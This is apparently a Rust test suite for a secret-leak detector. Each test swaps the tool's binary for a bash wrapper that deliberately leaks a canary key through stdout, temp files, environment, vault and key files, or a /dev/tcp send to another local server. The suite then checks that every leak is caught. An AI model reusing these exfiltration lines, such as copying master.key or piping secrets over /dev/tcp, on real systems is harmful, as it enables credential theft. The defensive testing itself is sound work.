//! Leaks that are planted: the binary is replaced by a script that runs it, and lets the secret out on the way. Each
//! must be seen, where it is and as it is written.

use std::{
    collections::BTreeSet,
    env, fs,
    path::PathBuf,
    process,
    sync::atomic::{AtomicUsize, Ordering},
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

use crate::{
    binary,
    commands::served,
    drive::{Sighting, drive},
    pages,
    process::script,
    scanner::{Encoding, hex},
    server::{Server, answer},
    sink::Sink,
    situations::{Circumstance, Situation, interrupted, of},
    story::{made, run, save},
    subject::Subject,
    subjects, terminal,
};

/// A script in the place of the binary, for as long as it lives.
struct Leaky(PathBuf);

impl Leaky {
    /// Does `leak`, in which `$TEXT` is what to let out and `$KEY` a secret as it is, and becomes the binary.
    fn new(leak: &str, text: &str, key: &str) -> Self {
        static COUNT: AtomicUsize = AtomicUsize::new(0);
        let count = COUNT.fetch_add(1, Ordering::Relaxed);
        let path = env::temp_dir().join(format!("keyway-leaky-{}-{count}", process::id()));
        let quoted = |text: &str| format!("'{}'", text.replace('\'', r"'\''"));
        let lines = [
            "#!/usr/bin/env bash".to_owned(),
            "send() { at=${1#http://}; cat > /dev/tcp/${at%:*}/${at##*:}; }".to_owned(),
            format!("TEXT={} KEY={}", quoted(text), quoted(key)),
            leak.to_owned(),
            format!("exec '{}' \"$@\"", binary().display()),
        ];
        script(&path, &lines.join("\n"));
        Self(path)
    }
}

impl Drop for Leaky {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.0);
    }
}

/// The one whose key goes into a header, with every odd character in it.
fn subject(all: &[Subject]) -> &Subject {
    all.iter().find(|subject| subject.name() == "canary/header").unwrap()
}

fn called(situations: Vec<Situation>, name: &str) -> Situation {
    situations.into_iter().find(|situation| situation.name.ends_with(name)).unwrap()
}

/// Runs a situation with a leak, and expects it to be seen: there, so written, and nowhere else.
#[track_caller]
fn seen(all: &[Subject], situation: &Situation, leak: &str, text: &str, expected: Option<(Sink, Encoding)>) {
    seen_and_passing(all, situation, leak, text, expected, None);
}

/// The same, for a leak that must pass through another sink: whether it is looked at in that moment is chance.
#[track_caller]
fn seen_and_passing(
    all: &[Subject],
    situation: &Situation,
    leak: &str,
    text: &str,
    expected: Option<(Sink, Encoding)>,
    passing: Option<Sink>,
) {
    let leaky = Leaky::new(leak, text, subject(all).secret());
    let chain = [situation.clone()];
    let mut outcome = drive(&leaky.0, subject(all), &Subject::canary(all), &chain).unwrap();
    outcome.sightings.retain(|seen| Some(seen.sink) != passing);
    let expected = expected.map(|(sink, encoding)| Sighting { sink, encodings: BTreeSet::from([encoding]) });
    assert_eq!(outcome.sightings, expected.into_iter().collect(), "{leak}: {:?}", outcome.wrong);
}

#[test]
fn a_leak_is_seen_in_every_sink_and_in_every_encoding() {
    let (_, all) = subjects();
    let secret = subject(&all).secret();
    let json = serde_json::Value::from(secret).to_string();
    let hex = hex(secret);
    let html =
        secret.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;").replace('\'', "&#39;");
    let percent = utf8_percent_encode(secret, NON_ALPHANUMERIC).to_string();
    let base64 = STANDARD.encode(format!("{{\"api_key\":\"{secret}\"}}"));
    let numbers = format!("{:?}", secret.as_bytes());
    let part = &secret[secret.len() - 20..];
    // With stdout and stderr elsewhere: it may live longer than the binary, which is not waited for then.
    // It says that it is there: until then it has the arguments of who began it.
    let child = r#"exec 8> >(exec bash -c ': > "$TMPDIR/there"; read -r _' leak "$TEXT" >/dev/null 2>&1)
until [ -e "$TMPDIR/there" ]; do sleep 0.01; done"#;
    let elsewhere = r#"printf 'GET / HTTP/1.1\r\nx-debug: %s\r\n\r\n' "$TEXT" | send "$ELSEWHERE""#;
    // The key stands in its place, and some of it in another header.
    let head = r"GET /me HTTP/1.1\r\nx-canary: %s\r\nx-debug: %s\r\n\r\n";
    let target = format!(r#"printf '{head}' "$KEY" "$TEXT" | send "$TARGET""#);
    let mut situation = called(of(subject(&all), &all), ": answer 0");
    for (name, value) in [("ELSEWHERE", "{elsewhere}"), ("TARGET", "{target}")] {
        situation.environment.push((name.to_owned(), value.to_owned()));
    }
    for (leak, text, sink, encoding) in [
        (r#"echo "$TEXT""#, secret, Sink::Stdout, Encoding::Raw),
        (r#"echo "$TEXT" >&2"#, percent.as_str(), Sink::Stderr, Encoding::Percent),
        (r#"echo "$TEXT" > "$TMPDIR/debug""#, base64.as_str(), Sink::Temporary, Encoding::Base64),
        (r#"echo "$TEXT" > core"#, secret, Sink::Files, Encoding::Raw),
        (child, json.as_str(), Sink::CommandLine, Encoding::Json),
        ("export TEXT", html.as_str(), Sink::Environment, Encoding::Html),
        (elsewhere, numbers.as_str(), Sink::Elsewhere, Encoding::Numbers),
        (target.as_str(), part, Sink::Target, Encoding::Part),
    ] {
        seen(&all, &situation, leak, text, Some((sink, encoding)));
    }
    // By the shell itself, for a program has it in its arguments. To make a file, that opens it.
    let named = r#": > "$HOME/$TEXT""#;
    let expected = Some((Sink::FileNames, Encoding::Hex));
    seen_and_passing(&all, &situation, named, &hex, expected, Some(Sink::OpenFiles));
    // The script itself leaks nothing.
    seen(&all, &situation, "", secret, None);
}

/// Files of the vault, and what stands beside them.
#[test]
fn a_leak_is_seen_in_every_file_of_a_vault() {
    let (_, all) = subjects();
    let secret = subject(&all).secret();
    let situation = called(of(subject(&all), &all), ": answer 0");
    let hex = hex(secret);
    let wal = r#"mkdir -p ../vault; printf '%40s%s' . "$TEXT" > ../vault/a.db-wal"#;
    for (leak, text, sink, encoding) in [
        (r#"mkdir -p ../vault; echo "$TEXT" > ../vault/a.db"#, secret, Sink::Database, Encoding::Raw),
        (wal, hex.as_str(), Sink::Wal, Encoding::Hex),
        (r#"mkdir -p ../vault; echo "$TEXT" > ../vault/a.db-shm"#, secret, Sink::SharedMemory, Encoding::Raw),
        (r#"echo "$TEXT" > "$SQLITE_TMPDIR/etilqs_1""#, secret, Sink::Temporary, Encoding::Raw),
        (r#"echo "$TEXT" > ../exports/one.jsonl"#, secret, Sink::Exports, Encoding::Raw),
        (r#"echo "$TEXT" > ../anchors/anchors"#, secret, Sink::Anchors, Encoding::Raw),
        (r#"mkdir ../keys; echo "$TEXT" > ../keys/master.key.new"#, secret, Sink::KeyFile, Encoding::Raw),
        (r#"mkdir ../keys; echo "$TEXT" > ../keys/master.key"#, secret, Sink::KeyFile, Encoding::Raw),
        (r#"mkdir ../keys; echo "$TEXT" > ../keys/master.key.retired"#, secret, Sink::KeyFile, Encoding::Raw),
    ] {
        seen(&all, &situation, leak, text, Some((sink, encoding)));
    }
    // It is open, and has no name any more: the program that took that had it in its arguments.
    let nameless = r#"exec 9> "../$TEXT"; rm "../$TEXT""#;
    let expected = Some((Sink::OpenFiles, Encoding::Hex));
    seen_and_passing(&all, &situation, nameless, &hex, expected, Some(Sink::CommandLine));
    // Nothing of it is left when it has ended: it was there while the key was in use.
    let for_a_while = format!(
        r#"echo "$TEXT" > "$TMPDIR/debug"; '{}' "$@"; code=$?; rm "$TMPDIR/debug"; exit $code"#,
        binary().display()
    );
    seen(&all, &situation, &for_a_while, secret, Some((Sink::Temporary, Encoding::Raw)));
    let audit = run(&["audit"]).ending(&[1]);
    seen(&all, &audit, r#"echo "$TEXT""#, secret, Some((Sink::Audit, Encoding::Raw)));
    let export = run(&["vault", "export", "-"]).ending(&[1]);
    seen(&all, &export, r#"echo "$TEXT""#, secret, Some((Sink::Exports, Encoding::Raw)));
}

/// A tenant's name is in clear, so a key in its place is in everything that a vault writes.
#[test]
fn a_key_that_is_in_the_database_is_seen_wherever_that_goes() {
    let (_, all) = subjects();
    let of = |id: &str| all.iter().find(|subject| subject.provider == id).unwrap();
    // Its own key is refused there; nobody knows that this is one.
    let (rally, another) = (of("rally"), of("rootly").secret());
    let chain = [
        run(&["vault", "init"]),
        save(rally),
        // Of all tenants.
        run(&["audit", "--follow"]).where_("KEYWAY_TENANT", "").under(Circumstance::Behind),
        save(rally).where_("KEYWAY_TENANT", another),
        run(&["vault", "export", "{watched}/exports/one.jsonl"]),
        run(&["audit"]).where_("KEYWAY_TENANT", ""),
    ];
    let outcome = drive(binary(), rally, &Subject::canary(&all), &chain).unwrap();
    let sinks: BTreeSet<Sink> = outcome.sightings.into_iter().map(|seen| seen.sink).collect();
    for sink in [Sink::Database, Sink::Wal, Sink::Exports, Sink::Audit] {
        assert!(sinks.contains(&sink), "{sink:?} is not among {sinks:?}; {:?}", outcome.wrong);
    }
}

/// Beside the connect pages: of the key, and of links, which are for who asks for them.
#[test]
fn a_leak_beside_the_connect_pages_is_seen() {
    let (_, all) = subjects();
    let (secret, situation) = (subject(&all).secret(), pages::through(subject(&all)));
    seen(&all, &situation, "", secret, None);
    seen(&all, &situation, r#"echo "$TEXT" >&2"#, &hex(secret), Some((Sink::Stderr, Encoding::Hex)));
    // The key itself is printed there too, for whoever wants to try it, so a wrong one tells of the links alone.
    let other = all.iter().find(|subject| subject.name() == "canary/query").unwrap();
    let leaky = Leaky::new(r#"exec > >(tee "$TMPDIR/said")"#, "", "");
    let outcome = drive(&leaky.0, other, &Subject::canary(&all), &[pages::through(other)]).unwrap();
    let sinks: BTreeSet<Sink> = outcome.sightings.into_iter().map(|seen| seen.sink).collect();
    assert_eq!(sinks, BTreeSet::from([Sink::Temporary]), "{:?}", outcome.wrong);
}

/// A token and a master key are the binary's own: what is looked for is learned from where they belong.
#[test]
fn what_the_binary_makes_up_is_seen_elsewhere() {
    let (_, all) = subjects();
    let chain = made(subject(&all));
    let key = r#"cat ../keys/master.key > "$TMPDIR/copy" 2>/dev/null"#;
    let twice = format!(
        r#"case $1 in grant) token=$('{}' "$@") || exit; echo "$token"; echo "$token" >&2; exit; esac"#,
        binary().display()
    );
    // A key that was made and retired since the last look is in that file alone.
    let retired = format!(
        r#"case $2 in rotate-key) '{0}' "$@" >/dev/null && '{0}' "$@" || exit; tail -n 1 ../keys/master.key.retired >&2; exit; esac"#,
        binary().display()
    );
    let rotated = [run(&["vault", "init"]), run(&["vault", "rotate-key"])];
    // A token of the API: its id may be seen, and the rest of it is as good as all.
    let part = format!(
        r#"case $1 in token) token=$('{}' "$@") || exit; echo "$token"; echo "${{token:12}}" >&2; exit; esac"#,
        binary().display()
    );
    let token = [run(&["vault", "init"]), run(&["token", "create", "--scope", "events"])];
    let session = [run(&["vault", "init"]), run(&["session", "create", "--end-user", "ada"])];
    let link = twice.replace("grant)", "session)");
    for (leak, sink, chain) in [
        (key, Sink::Temporary, &chain[..]),
        (twice.as_str(), Sink::Stderr, &chain[..]),
        (retired.as_str(), Sink::Stderr, &rotated[..]),
        (part.as_str(), Sink::Stderr, &token[..]),
        (link.as_str(), Sink::Stderr, &session[..]),
    ] {
        let leaky = Leaky::new(leak, "", "");
        let outcome = drive(&leaky.0, subject(&all), &Subject::canary(&all), chain).unwrap();
        let sinks: BTreeSet<Sink> = outcome.sightings.into_iter().map(|seen| seen.sink).collect();
        assert_eq!(sinks, BTreeSet::from([sink]), "{leak}: {:?}", outcome.wrong);
    }
    // What is sealed is shown to who asks, and is in no file.
    let name = &subject(&all).names[0];
    for (leak, sink) in [(r#"echo "$TEXT" > core"#, Some(Sink::Files)), (r#"echo "$TEXT""#, None)] {
        let leaky = Leaky::new(leak, name, "");
        let outcome = drive(&leaky.0, subject(&all), &Subject::canary(&all), &chain).unwrap();
        let sinks: BTreeSet<Sink> = outcome.sightings.into_iter().map(|seen| seen.sink).collect();
        assert_eq!(sinks, sink.into_iter().collect(), "{leak}: {:?}", outcome.wrong);
    }
}

#[test]
fn a_leak_is_seen_on_a_terminal() {
    if !terminal::is_there() {
        return;
    }
    let (_, all) = subjects();
    let secret = subject(&all).secret();
    let situation = called(of(subject(&all), &all), ": typed");
    seen(&all, &situation, r#"echo "$TEXT" >&2"#, secret, Some((Sink::Terminal, Encoding::Raw)));
    seen(&all, &situation, "", secret, None);
}

#[test]
fn a_leak_is_seen_when_a_signal_ends_it() {
    let (_, all) = subjects();
    let secret = subject(&all).secret();
    let situation = called(interrupted(subject(&all)), ": SIGTERM");
    seen(
        &all,
        &situation,
        r#"echo "$TEXT" > "$TMPDIR/left""#,
        secret,
        Some((Sink::Temporary, Encoding::Raw)),
    );
}

#[test]
fn a_leak_is_seen_in_answers() {
    let (_, all) = subjects();
    let secret = subject(&all).secret();
    let echo = Server::start(|_, request| answer("404 No", &[], request));
    // Says where the stand-ins are, as the binary does, and they are others.
    let leak = format!(
        "echo 'Stand-ins are listening on {}'\ntrap 'exit 0' TERM\nwhile read -r -t 20 _; do :; done\nexit 0",
        echo.origin()
    );
    let Situation { circumstance: Circumstance::Served(mut requests), .. } = served(subject(&all)) else {
        panic!()
    };
    requests.truncate(1);
    let situation = Situation { circumstance: Circumstance::Served(requests), ..served(subject(&all)) };
    seen(&all, &situation, &leak, secret, Some((Sink::Answers, Encoding::Raw)));
}

#[test]
fn a_key_that_stands_twice_or_not_at_all_is_a_fault() {
    let (_, all) = subjects();
    let subject = subject(&all);
    let key = subject.secret();
    let rest = |request: String| subject.without_secrets(request.as_bytes());
    let right = rest(format!("GET /me HTTP/1.1\r\nx-canary: {key}\r\nx-other: 1\r\n\r\n")).unwrap();
    assert_eq!(right, b"GET /me HTTP/1.1\r\nx-canary: \r\nx-other: 1\r\n\r\n");
    for wrong in [
        "GET /me HTTP/1.1\r\n\r\n".to_owned(),
        "GET /me HTTP/1.1\r\nx-canary: other\r\n\r\n".to_owned(),
        format!("GET /me HTTP/1.1\r\nx-other: {key}\r\n\r\n"),
        format!("GET /me HTTP/1.1\r\nx-canary: {key}\r\nX-Canary: {key}\r\n\r\n"),
        format!("GET /me HTTP/1.1\r\nx-canary: {key}{key}\r\n\r\n"),
    ] {
        assert!(rest(wrong.clone()).is_none(), "{wrong}");
    }
}
